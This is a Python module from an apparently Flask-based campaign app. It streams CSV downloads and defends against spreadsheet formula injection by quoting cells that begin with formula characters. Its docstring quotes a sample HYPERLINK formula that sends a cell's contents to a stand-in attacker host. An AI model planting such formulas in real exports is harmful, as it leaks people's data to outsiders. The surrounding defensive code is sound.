"""CSV files organisers open in a spreadsheet: no cell may run as a formula.

Names, comments and even email addresses come from the public. A cell such as
`=HYPERLINK("https://evil.example?"&A2, "Click")` would run when an organiser opens the export
(OWASP "CSV injection"), so text starting with a formula character gets a leading quote.
"""

import csv
import io
import itertools
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import Any

from flask import Response, stream_with_context

from campaign.db import utcnow
from campaign.extensions import db

# = + - @ start formulas; tab and carriage return can too, after a spreadsheet trims them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """A value as CSV cell text that a spreadsheet shows as text, never runs."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of a header and rows, one line at a time (streams; memory stays flat)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in itertools.chain([header], rows):
        writer.writerow([neutralise(cell) for cell in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()


def csv_download(name: str, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Response:
    """A CSV attachment `name-YYYY-MM-DD.csv`, streamed a line at a time, never cached.

    The rows are read after the view has returned, when the request's session is gone: they must
    not touch an object the view loaded. The session is closed here, before the first row, so a
    row that does fails in every test as it would in production (where it sent only the header).
    """
    db.session.close()
    response = Response(stream_with_context(csv_lines(header, rows)), mimetype="text/csv")
    filename = f"{name}-{utcnow().date().isoformat()}.csv"
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["Cache-Control"] = "no-store"
    return response
